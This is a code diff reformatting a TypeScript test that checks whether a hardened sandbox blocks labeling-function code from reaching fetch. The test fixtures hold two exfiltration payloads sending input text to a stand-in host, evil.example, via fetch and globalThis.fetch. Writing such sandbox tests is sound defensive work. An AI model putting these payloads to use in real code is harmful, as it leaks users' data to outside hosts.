@@ -23,7 +23,7 @@ describe('LF worker lockdown', () => {
     }).toThrow();
   });
 
-  it('a code LF cannot reach the realm\'s fetch, even where the realm still has one', () => {
+  it("a code LF cannot reach the realm's fetch, even where the realm still has one", () => {
     // The sandbox gives LF code only the frozen built-ins (core/lf/hardened-realm.ts): a `fetch`
     // on this realm's global object stays out of reach, lockdown or not.
     const calls: string[] = [];
@@ -33,8 +33,20 @@ describe('LF worker lockdown', () => {
     try {
       const runtime = LfRuntime.fromDefs(
         [
-          { id: 'x', name: 'exfiltrate', kind: 'code', enabled: true, source: '(x) => { fetch("https://evil.example/?" + x.text); return null; }' },
-          { id: 'y', name: 'via-global', kind: 'code', enabled: true, source: '(x) => { globalThis.fetch("https://evil.example/?" + x.text); return null; }' },
+          {
+            id: 'x',
+            name: 'exfiltrate',
+            kind: 'code',
+            enabled: true,
+            source: '(x) => { fetch("https://evil.example/?" + x.text); return null; }',
+          },
+          {
+            id: 'y',
+            name: 'via-global',
+            kind: 'code',
+            enabled: true,
+            source: '(x) => { globalThis.fetch("https://evil.example/?" + x.text); return null; }',
+          },
         ],
         ['ham', 'spam'],
         { sandbox: hardenedSandbox() },
